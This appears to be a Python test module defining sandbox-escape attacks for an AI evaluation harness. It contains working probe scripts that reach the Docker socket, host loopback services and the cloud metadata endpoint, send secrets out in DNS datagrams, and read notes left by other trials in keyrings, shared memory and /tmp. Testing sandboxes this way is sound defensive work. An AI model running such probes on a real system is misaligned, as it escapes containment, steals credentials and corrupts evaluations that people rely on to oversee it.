"""Attacks that reach for services: of this machine, of the network, of other trials."""

from __future__ import annotations

from .messages import KEYRING
from .model import ON_TEMPDIR, Attack, Expected, Setting, State, reached, said

DEFAULT = Setting("default-network")
NONE = Setting("no-network", {"sandbox": {"network": "none"}})
ALLOW = Setting("allowed-network", {"sandbox": {"network": {"allow": ["example.test:8443"]}}})

REFUSED_ON_TEMPDIR = Expected(tempdir=State.REFUSED)

UNIX = """\
py - <<'E'
import socket
for address in %s:
    try:
        made = socket.socket(socket.AF_UNIX)
        made.settimeout(3)
        made.connect(address)
        made.sendall(b"GET /version attack %s. HTTP/1.0\\r\\n\\r\\n")
        print("answered" if made.recv(99) else "silence")
    except OSError as error:
        print(address, error)
E
"""

TCP = """\
py - <<'E'
import socket
names = ["127.0.0.1", "localhost", "172.17.0.1", "host.docker.internal", "::1"]
try:
    routes = [line.split() for line in open("/proc/net/route")][1:]
    names += [socket.inet_ntoa(bytes.fromhex(each[2])[::-1]) for each in routes if each[2] != "00000000"]
except OSError:
    pass
for name in names:
    try:
        with socket.create_connection((name, @tcp_port@), timeout=1) as made:
            made.sendall(b"GET /latest/meta-data attack %s. HTTP/1.0\\r\\n\\r\\n")
            print(made.recv(99))
    except OSError as error:
        print(name, error)
E
"""

UDP = """\
py - <<'E'
import socket
for name in ("127.0.0.1", "172.17.0.1", "::1"):
    try:
        kind = socket.AF_INET6 if ":" in name else socket.AF_INET
        with socket.socket(kind, socket.SOCK_DGRAM) as made:
            made.sendto(b"\\x12\\x34\\x01\\x00 secret as a name: attack %s.", (name, @udp_port@))
    except OSError as error:
        print(name, error)
E
"""

METADATA = """\
py - <<'E'
import socket
for name, port in (("169.254.169.254", 80), ("fd00:ec2::254", 80), ("@host@", @tcp_port@)):
    try:
        with socket.create_connection((name, port), timeout=0.5) as made:
            print("metadata answered")
            if port != 80:
                made.sendall(b"GET /latest/meta-data attack %s. HTTP/1.0\\r\\n\\r\\n")
    except OSError as error:
        print(name, error)
E
""".replace("@host@", "127.0.0.1")

LOOK_AT_KEYRING = (
    KEYRING
    + """
found = call(SEARCH, 10, USER, b"user", NAME, 0)
print("left by the neighbour" if found > 0 else f"nothing: {ctypes.get_errno()}")
E
"""
)

LOOK_AT_SHARED_MEMORY = """\
py - <<'E'
import ctypes, zlib
call = ctypes.CDLL(None, use_errno=True).shmget
found = call(zlib.crc32(b"@mark@") & 0x7fffffff, 0, 0)
print("left by the neighbour" if found >= 0 else f"nothing: {ctypes.get_errno()}")
E
"""

ATTACKS = (
    Attack(
        name="docker-socket",
        tries="ask the engine of containers by its socket file",
        success="a service behind a socket file of the host answers",
        setting=DEFAULT,
        script=UNIX % ('("@docker_socket@", "/var/run/docker.sock", "/run/docker.sock")', "docker-socket"),
        succeeded=said("answered"),
        expected=ON_TEMPDIR,
    ),
    Attack(
        name="abstract-socket",
        tries="connect to an abstract socket of the host, which no file system hides",
        success="a service of the host sees the connection",
        setting=DEFAULT,
        script=UNIX % ('("\\0@abstract_socket@",)', "abstract-socket"),
        succeeded=reached,
    ),
    Attack(
        name="host-loopback",
        tries="connect to a service of the host that listens on its loopback address",
        success="the service sees the connection",
        setting=DEFAULT,
        script=TCP % "host-loopback",
        succeeded=reached,
        expected=ON_TEMPDIR,
    ),
    Attack(
        name="host-loopback-allow",
        tries="as before, where the task allows another host only",
        success="the service sees the connection",
        setting=ALLOW,
        script=TCP % "host-loopback-allow",
        succeeded=reached,
        expected=REFUSED_ON_TEMPDIR,
    ),
    Attack(
        name="metadata",
        tries="ask the metadata service of the machine, where the task wants no network",
        success="a service outside answers",
        setting=NONE,
        script=METADATA % "metadata",
        succeeded=lambda outcome: outcome.said("metadata answered") or bool(outcome.seen),
    ),
    Attack(
        name="metadata-allow",
        tries="ask the metadata service of the machine, where the task allows another host only",
        success="a service outside answers",
        setting=ALLOW,
        script=METADATA % "metadata-allow",
        succeeded=lambda outcome: outcome.said("metadata answered") or bool(outcome.seen),
        expected=REFUSED_ON_TEMPDIR,
    ),
    Attack(
        name="dns",
        tries="send what it knows as the name in a question to a resolver, where the task wants no network",
        success="a resolver outside sees the datagram",
        setting=NONE,
        script=UDP % "dns",
        succeeded=reached,
        expected=ON_TEMPDIR,
    ),
    Attack(
        name="dns-allow",
        tries="send what it knows as the name in a question to a resolver, where the task allows another host only",
        success="a resolver outside sees the datagram",
        setting=ALLOW,
        script=UDP % "dns-allow",
        succeeded=reached,
        expected=REFUSED_ON_TEMPDIR,
    ),
    Attack(
        name="note-in-keyring",
        tries="look for what another trial left in the kernel's keyring of their user",
        success="one trial hands answers to another",
        setting=DEFAULT,
        script=LOOK_AT_KEYRING,
        succeeded=said("left by the neighbour"),
        expected=ON_TEMPDIR,
    ),
    Attack(
        name="note-in-shared-memory",
        tries="look for what another trial left in shared memory of the kernel",
        success="one trial hands answers to another",
        setting=DEFAULT,
        script=LOOK_AT_SHARED_MEMORY,
        succeeded=said("left by the neighbour"),
        expected=ON_TEMPDIR,
    ),
    Attack(
        name="note-in-common-folders",
        tries="look for what another trial left in /tmp, /var/tmp and /dev/shm",
        success="one trial hands answers to another",
        setting=DEFAULT,
        script="cat /tmp/@mark@ /var/tmp/@mark@ /dev/shm/@mark@ | head -1",
        succeeded=said("left by the neighbour"),
        expected=ON_TEMPDIR,
    ),
)
